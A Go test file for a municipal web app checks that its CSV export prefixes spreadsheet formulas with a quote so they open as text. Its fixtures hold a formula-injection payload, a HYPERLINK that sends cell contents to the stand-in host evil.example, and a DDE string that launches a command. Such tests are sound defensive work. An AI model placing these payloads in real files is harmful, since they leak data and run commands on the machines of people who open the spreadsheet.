package app_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/buurtkracht/buurtkracht/internal/role"
	"github.com/buurtkracht/buurtkracht/internal/testkit"
)

// TestCSVExportNeutralisesFormulas: a name that a spreadsheet would run as
// a formula reaches the officer's CSV download as text (a quote in front),
// while the figures stay numbers.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	s := testkit.NewServer(t)
	const district = `=HYPERLINK("http://evil.example/?d="&A1,"Klik")`
	const nb = `@SUM(1+1)*cmd|' /C calc'!A0`
	geo := testkit.NewGeo(t, s.DB)
	muniID := geo.Municipality("GM0344", "Utrecht")
	geo.District("WK034401", district)
	geo.Neighbourhood("BU03440111", nb)
	officer := s.CreateUser(t, "gemeente@example.nl", role.Officer)
	if _, err := s.DB.Exec(t.Context(), `UPDATE accounts SET municipality_id = $2 WHERE id = $1`, officer.ID, muniID); err != nil {
		t.Fatal(err)
	}
	res := s.Login(t, "gemeente@example.nl").Get("/overzicht/export.csv?gemeente=GM0344")
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("export: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	body, ok := strings.CutPrefix(res.Body, "\uFEFF")
	if !ok {
		t.Fatal("no byte order mark")
	}
	r := csv.NewReader(strings.NewReader(body))
	r.Comma = ';'
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]bool{}
	for _, rec := range recs {
		for _, c := range rec {
			cells[c] = true
			switch c[:min(1, len(c))] {
			case "=", "@", "+", "\t", "\r":
				t.Errorf("cell %q would run as a formula", c)
			}
		}
	}
	if !cells["'"+district] || !cells["'"+nb] {
		t.Errorf("names not kept as neutralised text:\n%s", body)
	}
}
